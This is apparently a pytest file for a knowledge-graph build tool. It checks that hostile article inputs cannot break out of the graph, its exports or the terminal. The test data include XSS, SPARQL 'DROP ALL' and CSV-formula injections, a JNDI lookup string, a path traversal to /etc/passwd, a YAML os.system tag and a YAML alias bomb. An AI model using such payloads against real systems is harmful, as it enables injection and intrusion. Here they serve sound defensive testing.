"""Whole builds of what is meant to break them: each is built, or refused by name, beside whole neighbours."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pyoxigraph
import pytest

import kgbuild
from kgbuild.articles import ReadingLimits
from kgbuild.build.manifest import read_articles
from kgbuild.cli import main
from kgbuild.serve.explorer.site import spreadsheet

#: one that is to come through whatever stands beside it
GOOD = "President Anne Martin of France said on Monday that Chile supports the trade pact."

BREAKOUTS = {
    "turtle": '"""@en ; <urn:x> <urn:y> . <urn:a> <urn:b> "',
    "iri": "http://a.example/> <urn:x> <urn:y> . <urn:a",
    "html": "\"><script>alert(1)</script><img src=x onerror='alert(1)'>",
    "sparql": '" } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> "c',
    "csv": '=HYPERLINK("http://a.example","x")',
    "terminal": "\x1b]0;owned\x07\x1b[31mred\x9b5m\u202eright to left",
    "template": "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://a.example} %s %n {0}",
    "path": "../../../../etc/passwd\\..\\..",
    "json": '\\"}],"@context":"http://a.example"',
    "long": "Very " * 20_000,
}


@pytest.mark.parametrize("kind", BREAKOUTS)
def test_nothing_breaks_out_of_the_graph(tmp_path: Path, kind: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = BREAKOUTS[kind]
    record = {
        "title": text,
        "author": text,
        "publisher": text,
        "url": f"https://a.example/{text}",
        "date": "2023-05-04",
        "text": f'{GOOD} President {text[:60]} said: "{text}" The {text[:60]} Treaty was signed by Norway.',
    }
    (tmp_path / "a.json").write_text(json.dumps(record))
    (tmp_path / "b.txt").write_text(GOOD)
    output = tmp_path / "output"
    built = kgbuild.build(tmp_path, output)
    assert not built.failures
    quads = set(pyoxigraph.parse(path=output / "graph.nq"))
    formats = {"graph.trig": pyoxigraph.RdfFormat.TRIG, "graph.jsonld": pyoxigraph.RdfFormat.JSON_LD}
    for name, form in formats.items():
        assert set(pyoxigraph.parse(path=output / name, format=form)) == quads, name
    assert {quad.triple for quad in pyoxigraph.parse(path=output / "graph.ttl")} == {quad.triple for quad in quads}
    nodes = {
        term.value
        for quad in quads
        for term in (quad.subject, quad.predicate, quad.object, quad.graph_name)
        if isinstance(term, pyoxigraph.NamedNode)
    }
    assert not any(node.startswith(("urn:", "javascript:")) or " " in node for node in nodes)
    assert main(["query", str(output), "SELECT ?s ?o { ?s ?p ?o }", "--format", "spreadsheet"]) in (0, 2)
    assert main(["show", str(tmp_path / "a.json")]) == 0
    told = capsys.readouterr().out
    assert not any(mark in told for mark in ("\x1b", "\x9b", "\x07", "\u202e"))


def test_no_cell_of_a_spreadsheet_is_taken_for_a_formula() -> None:
    rows = [{"name": start + "1+1"} for start in ("=", "+", "-", "@", "\t=", "\r=", "'=")]
    cells = [row[0] for row in csv.reader(io.StringIO(spreadsheet(rows).removeprefix("\ufeff")))][1:]
    assert all(cell.startswith("'") for cell in cells)


def test_every_wrong_kind_of_file_is_told_and_the_good_one_is_built(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("The secret of Norway is out.")
    articles = tmp_path / "articles"
    articles.mkdir()
    os.mkfifo(articles / "fifo.txt")
    (articles / "link.txt").symlink_to(outside)
    (articles / "folder.html").mkdir()
    (articles / os.fsdecode(b"caf\xe9.txt")).write_text(GOOD + " It was the second call.")
    (articles / "tags.md").write_text("---\ntitle: !!python/object/apply:os.system [true]\n---\nNorway spoke.")
    aliases = "a: &a [x, x]\n" + "".join(
        f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefghij", "bcdefghijk", strict=True)
    )
    (articles / "bomb.md").write_text(f"---\n{aliases}title: *k\n---\nNorway spoke with Chile about a bomb.")
    (articles / "keys.json").write_text('{"text": "One", "text": "Two"}')
    (articles / "number.json").write_text('{"text": "Norway met Peru.", "date": 1' + "0" * 5000 + "}")
    (articles / "nul.txt").write_bytes(b"\0" * 1000)
    (articles / "open.txt").write_text("“We will not sign, " * 400 + "Berg said.")
    (articles / "marks.txt").write_text("\u202e\u200f\u2067 Norway signed a treaty with Chile. \u200b\u00ad")
    (articles / "good.txt").write_text(GOOD)
    built = kgbuild.build(articles, tmp_path / "output", limits=ReadingLimits(seconds=20))
    told = {failure.source: failure.reason for failure in built.failures}
    refused = {"fifo.txt", "link.txt", "folder.html", "tags.md", "keys.json", "number.json", "nul.txt"}
    assert refused <= set(told)
    sources = {source for article in read_articles(tmp_path / "output") for source in article["sources"]}
    assert {"good.txt", "caf\\xe9.txt", "bomb.md", "marks.txt"} <= sources
    assert sources | set(told) == refused | {"good.txt", "caf\\xe9.txt", "bomb.md", "marks.txt", "open.txt"}
    assert "secret" not in (tmp_path / "output" / "graph.nq").read_text("utf-8")


def test_a_paragraph_of_a_hundred_thousand_words_is_bounded(tmp_path: Path) -> None:
    """Within the limit it is built (some half a minute); here it is refused, by name, and its neighbour is built."""
    words = "the minister of Norway said that talks with Chile on the border treaty would go on in May and "
    (tmp_path / "a.txt").write_text(words * (100_000 // len(words.split())))
    (tmp_path / "b.txt").write_text(GOOD)
    built = kgbuild.build(tmp_path, limits=ReadingLimits(seconds=0.2))
    assert [failure.source for failure in built.failures] == ["a.txt"]
    assert built.manifest["counts"]["articles"] == 1


def test_phrases_within_phrases_without_end_are_read(tmp_path: Path) -> None:
    """Each is part of the one before it, over more steps than Python can call."""
    (tmp_path / "a.txt").write_text("minister of " * 1600 + "Norway spoke. " + GOOD)
    assert not kgbuild.build(tmp_path / "a.txt").failures
